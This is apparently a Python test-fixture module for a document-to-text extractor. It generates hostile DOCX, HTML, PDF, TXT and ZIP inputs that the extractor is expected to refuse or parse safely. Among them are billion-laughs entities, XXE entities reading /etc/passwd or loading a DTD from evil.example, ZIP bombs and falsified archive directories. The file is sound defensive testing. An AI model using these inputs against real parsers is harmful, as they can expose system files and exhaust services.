"""Files that are small and would become large, or are made to keep a reader busy."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable

from tests.hostile import pdfs

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
TEXT = "<w:p><w:r><w:t>全年生产总值完成270亿元</w:t></w:r></w:p>"
MEGABYTE = 1024 * 1024


def archive(members: dict[str, bytes | str], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as made:
        for name, data in members.items():
            made.writestr(name, data)
    return out.getvalue()


def docx(body: str = TEXT, before: str = "", encoding: str = "utf-8", **parts: str) -> bytes:
    """A Word document; ``before`` stands before its root element, ``parts`` are numbering and styles."""
    document = f"{before}<w:document {W}><w:body>{body}</w:body></w:document>"
    members: dict[str, bytes | str] = {"word/document.xml": document.encode(encoding)}
    for name, inside in parts.items():
        members[f"word/{name}.xml"] = f"<w:{name} {W}>{inside}</w:{name}>"
    return archive(members)


def numbered(levels: str, level: str, paragraphs: int) -> bytes:
    paragraph = (
        f'<w:p><w:pPr><w:numPr><w:ilvl w:val="{level}"/><w:numId w:val="1"/></w:numPr></w:pPr>'
        "<w:r><w:t>工作</w:t></w:r></w:p>"
    )
    numbering = (
        f'<w:abstractNum w:abstractNumId="7">{levels}</w:abstractNum>'
        '<w:num w:numId="1"><w:abstractNumId w:val="7"/></w:num>'
    )
    return docx(paragraph * paragraphs, numbering=numbering)


def level(at: str, text: str = "%1、", start: str = "1") -> str:
    return (
        f'<w:lvl w:ilvl="{at}"><w:start w:val="{start}"/><w:numFmt w:val="decimal"/><w:lvlText w:val="{text}"/></w:lvl>'
    )


def styled(count: int) -> bytes:
    """As many styles, each based on the next, and as many paragraphs in the first."""
    styles = "".join(
        f'<w:style w:type="paragraph" w:styleId="S{n}"><w:basedOn w:val="S{n + 1}"/></w:style>' for n in range(count)
    )
    paragraph = '<w:p><w:pPr><w:pStyle w:val="S0"/></w:pPr><w:r><w:t>工作</w:t></w:r></w:p>'
    return docx(paragraph * count, styles=styles)


def lying(data: bytes, size: int) -> bytes:
    """The archive, whose directory says that its first member unpacks to ``size`` bytes."""
    at = data.index(b"PK\x01\x02")
    return data[: at + 24] + struct.pack("<L", size) + data[at + 28 :]


def overlapping(data: bytes, count: int) -> bytes:
    """The archive of one member, which its directory lists so many times under other names."""
    at, end = data.index(b"PK\x01\x02"), data.index(b"PK\x05\x06")
    length = struct.unpack_from("<H", data, at + 28)[0]
    directory = b""
    for number in range(count):
        name = b"%06d.txt" % number
        directory += data[at : at + 28] + struct.pack("<H", len(name)) + data[at + 30 : at + 46] + name
        directory += data[at + 46 + length : end]
    counts = struct.pack("<HHLL", count & 0xFFFF, count & 0xFFFF, len(directory), at)
    return data[:at] + directory + data[end : end + 8] + counts + data[end + 20 :]


def far(data: bytes, size: int, packed: int, offset: int) -> bytes:
    """The archive, whose directory gives its first member these places and lengths, in 64 bits (ZIP64)."""
    at, end = data.index(b"PK\x01\x02"), data.index(b"PK\x05\x06")
    name = at + 46 + struct.unpack_from("<H", data, at + 28)[0]
    extra = struct.pack("<HH3Q", 1, 24, size, packed, offset)
    entry = bytearray(data[at:name])
    struct.pack_into("<LL", entry, 20, 0xFFFFFFFF, 0xFFFFFFFF)
    struct.pack_into("<H", entry, 30, len(extra))
    struct.pack_into("<L", entry, 42, 0xFFFFFFFF)
    whole = struct.pack("<L", end - at + len(extra))
    return data[:at] + bytes(entry) + data[at + 46 : name] + extra + data[name : end + 12] + whole + data[end + 16 :]


def encrypted(data: bytes) -> bytes:
    """The archive, whose directory says that its first member is encrypted."""
    at = data.index(b"PK\x01\x02")
    return data[: at + 8] + struct.pack("<H", 1) + data[at + 10 :]


def listing(length: int) -> bytes:
    """An archive whose end says that its directory has so many bytes."""
    return b"PK\x03\x04" + b"\0" * 64 + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 1, 1, length, 0, 0)


LAUGHS = (
    '<!DOCTYPE a [<!ENTITY a "哈哈哈哈哈哈哈哈哈哈">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefghi", "bcdefghij", strict=True))
    + "]>"
)
PADDING = " " * 10_000

REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
    "entities.docx": (lambda: docx("<w:p><w:r><w:t>&j;</w:t></w:r></w:p>", LAUGHS), "entities"),
    "entities behind blanks.docx": (lambda: docx(before=f"<?xml version='1.0'?>{PADDING}{LAUGHS}"), "entities"),
    "entities in two bytes.docx": (lambda: docx(before=LAUGHS, encoding="utf-16"), "entities"),
    "entity from a file.docx": (
        lambda: docx(before='<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]>'),
        "entities",
    ),
    "type from elsewhere.docx": (lambda: docx(before='<!DOCTYPE a SYSTEM "http://evil.example/a.dtd">'), "entities"),
    "deep.docx": (lambda: docx("<w:sdt>" * 100_000 + "</w:sdt>" * 100_000), "nested"),
    "deep numbering.docx": (lambda: docx(numbering="<w:lvl>" * 5_000 + "</w:lvl>" * 5_000), "nested"),
    "large inside.docx": (lambda: docx(TEXT + " " * 65 * MEGABYTE), "unpacks to more"),
    "large inside, lying.docx": (lambda: lying(docx(TEXT + " " * 65 * MEGABYTE), 1000), "unpacks to more"),
    "short inside, lying.docx": (lambda: lying(docx(), 10), "damaged"),
    "packed otherwise.docx": (
        lambda: archive({"word/document.xml": "<a/>"}, zipfile.ZIP_LZMA),
        "packed",
    ),
    "encrypted.docx": (lambda: encrypted(docx()), "encrypted"),
    "a million members.docx": (lambda: listing(400 * MEGABYTE), "lists more files"),
    "not words.docx": (lambda: archive({"a.txt": "甲"}), "no Word document"),
    "unknown letters.docx": (lambda: docx(before="<?xml version='1.0' encoding='x-none'?>"), "damaged"),
    "entities in its numbering.docx": (
        lambda: archive(
            {
                "word/document.xml": f"<w:document {W}><w:body>{TEXT}</w:body></w:document>",
                "word/numbering.xml": f"{LAUGHS}<w:numbering {W}>&j;</w:numbering>",
            }
        ),
        "entities",
    ),
    "entities of parameters.docx": (
        lambda: docx(before='<!DOCTYPE a [<!ENTITY % b SYSTEM "http://evil.example/a.dtd"> %b;]>'),
        "entities",
    ),
    "members over one another.docx": (lambda: overlapping(docx(TEXT * 100), 50), "over one another"),
    "archive.zip": (lambda: archive({"a.zip": archive({"b.zip": "甲"})}), "archive inside"),
    "nothing.docx": (lambda: docx("<w:p/>" * 10), "no text"),
    "deep.html": (lambda: ("<html>" + "<div>" * 100_000 + "甲").encode(), "deep"),
    "fonts.html": (
        lambda: ("<html>" + "".join(f"<font a={n}>" for n in range(390)) + "<p>甲" * 100_000).encode(),
        "marks of style",
    ),
    "links.html": (lambda: ("<html>" + "<a><div>" * 100_000 + "甲").encode(), "deep"),
    "attributes.html": (
        lambda: ("<html><div " + " ".join(f"a{n}=1" for n in range(60_000)) + ">甲").encode(),
        "attributes",
    ),
    "tags.html": (lambda: ("<html>" + "<p>" * 1_000_001).encode(), "tags"),
    "loop.pdf": (lambda: pdfs.page(pdfs.flate(pdfs.DRAWN), b"2 0 R"), "OCR"),
    "deep pages.pdf": (lambda: pdfs.deep_pages(20_000), "OCR"),
    "contents of itself.pdf": (lambda: pdfs.page(b"4 0 R"), "OCR"),
    "contents over and over.pdf": (lambda: pdfs.page(b"[" + b"6 0 R " * 300_000 + b"]"), "OCR"),
    "one page over and over.pdf": (lambda: pdfs.page(pdfs.flate(pdfs.DRAWN * 10), b"3 0 R " * 50_000, 50_000), "OCR"),
    "deep marks.pdf": (
        lambda: pdfs.page(pdfs.flate(b"BT /F1 9 Tf /A " + b"<< /B " * 300_000 + b" BDC (The work of the year) Tj ET")),
        "OCR",
    ),
    "nothing.pdf": (lambda: b"%PDF-1.7\n" + b"\0" * 1000, "PDF"),
    "secret.pdf": (
        lambda: pdfs.page(pdfs.flate(pdfs.DRAWN)).replace(
            b"/Root 1 0 R",
            b"/Root 1 0 R /Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O ("
            + b"a" * 32
            + b") /U ("
            + b"b" * 32
            + b") >> /ID [(aaaaaaaaaaaaaaaa) (aaaaaaaaaaaaaaaa)]",
        ),
        "password",
    ),
}
"""Refused with a message that holds the word."""

READ: dict[str, tuple[Callable[[], bytes], str]] = {
    "absurd level.docx": (lambda: numbered(level("2000000000"), "2000000000", 3), "工作\n工作\n工作"),
    "negative level.docx": (lambda: numbered(level("-1"), "-1", 3), "工作\n工作\n工作"),
    "absurd start.docx": (lambda: numbered(level("0", start="9" * 4000), "0", 2), "工作"),
    "long label.docx": (lambda: numbered(level("0", "%1" * 100_000), "0", 200), "工作"),
    "styles of styles.docx": (lambda: styled(5_000), "工作"),
    "wide table.docx": (
        lambda: docx(
            "<w:tbl>"
            + "<w:tr><w:tc><w:p><w:r><w:t>1</w:t></w:r></w:p></w:tc></w:tr>" * 2_000
            + "<w:tr>" + "<w:tc><w:p><w:r><w:t>2</w:t></w:r></w:p></w:tc>" * 2_000 + "</w:tr></w:tbl>"
        ),
        "| 1 |",
    ),
    "empty paragraphs.docx": (lambda: docx("<w:p/>" * 100_000 + TEXT), "270亿元"),
    "one paragraph of tabs.docx": (
        lambda: docx("<w:p><w:r><w:t>甲</w:t>" + "<w:tab/>" * 100_000 + "<w:t>乙</w:t></w:r></w:p>"), "乙"
    ),
    "attributes.docx": (
        lambda: docx("<w:p " + " ".join(f'a{n}="1"' for n in range(50_000)) + "><w:r><w:t>甲乙</w:t></w:r></w:p>"),
        "甲乙",
    ),
    "one comment.docx": (lambda: docx("<!--" + "a" * 20 * MEGABYTE + "-->" + TEXT), "270亿元"),
    "long table.docx": (
        lambda: docx(
            "<w:tbl>"
            + "<w:tr><w:tc><w:p><w:r><w:t>1</w:t></w:r></w:p></w:tc></w:tr>" * 20_000
            + "<w:tr>" + "<w:tc><w:p><w:r><w:t>2</w:t></w:r></w:p></w:tc>" * 64 + "</w:tr></w:tbl>"
        ),
        "| 1 |",
    ),
    "tables in tables.docx": (
        lambda: docx(
            "<w:tbl><w:tr><w:tc>" * 60 + "<w:p><w:r><w:t>甲乙</w:t></w:r></w:p>" + "</w:tc></w:tr></w:tbl>" * 60
        ),
        "甲乙",
    ),
    "long table.html": (
        lambda: ("<html><table>" + "<tr><td>1" * 40_000 + "<tr>" + "<td>2" * 64 + "</table>").encode(),
        "| 1 |",
    ),
    "wide table.html": (
        lambda: ("<html><table>" + "<tr><td>1" * 5_000 + "<tr>" + "<td>2" * 5_000 + "</table>").encode(),
        "| 1 |",
    ),
    "tables in tables.html": (lambda: ("<html>" + "<table><tr><td>甲<td>乙" * 100).encode(), "甲"),
    "many links.html": (lambda: ("<html>" + "<div>" * 100 + "<a href=x>甲</a>" * 20_000).encode(), "甲"),
    "never closed.html": (lambda: ("<html><p>甲乙" + "<!--" * 100_000).encode(), "甲乙"),
    "a billion pages.pdf": (lambda: pdfs.page(pdfs.flate(pdfs.DRAWN), count=1_000_000_000), "work of the year"),
    "deep arrays.pdf": (
        lambda: pdfs.page(pdfs.flate(pdfs.DRAWN)).replace(
            b"/MediaBox", b"/X " + b"[" * 300_000 + b"]" * 300_000 + b" /MediaBox"
        ),
        "work of the year",
    ),
    "absurd page.pdf": (
        lambda: pdfs.page(pdfs.flate(pdfs.DRAWN)).replace(
            b"/MediaBox [0 0 595 842]", b"/UserUnit 1e30 /MediaBox [-1e38 -1e38 1e38 1e38]"
        ),
        "work of the year",
    ),
    "a table of itself.pdf": (
        lambda: pdfs.page(pdfs.flate(pdfs.DRAWN)).replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev 400"), "work of the year"
    ),
    "states never restored.pdf": (lambda: pdfs.page(pdfs.flate(b"q " * 500_000 + pdfs.DRAWN)), "work of the year"),
    "drawing of itself.pdf": (lambda: pdfs.forms(1, 1, b"/X0 Do"), "work of the year"),
    "codec.html": (lambda: "<html><meta charset=idna><p>甲乙".encode("gb18030"), "甲乙"),
    "escapes.html": (lambda: "<html><meta charset=unicode_escape><p>甲乙\\x1b[2J".encode("gb18030"), "甲乙"),
    "nulls.txt": (lambda: "甲".encode() + b"\0" * 20 + "乙".encode() * 4_000, "甲"),
    "controls.txt": (lambda: "甲".encode() + b"\x01" * 2_000_000, "甲"),
    "one line.txt": (lambda: "全年生产总值完成270亿元，增长4%。".encode() * 40_000, "270亿元"),
    "damaged.txt": (lambda: b"\xff\xfe\xfa" * 200_000 + "甲".encode(), ""),
    "misread.txt": (lambda: ("锛" + "甲" * 400_000).encode(), "甲"),
    "entities.txt": (lambda: b"&amp;" * 400_000, "&"),
    "entities of entities.txt": (lambda: ("&" + "amp;" * 400_000 + "甲").encode(), "甲"),
}  # fmt: skip
"""Read, with this in their text."""
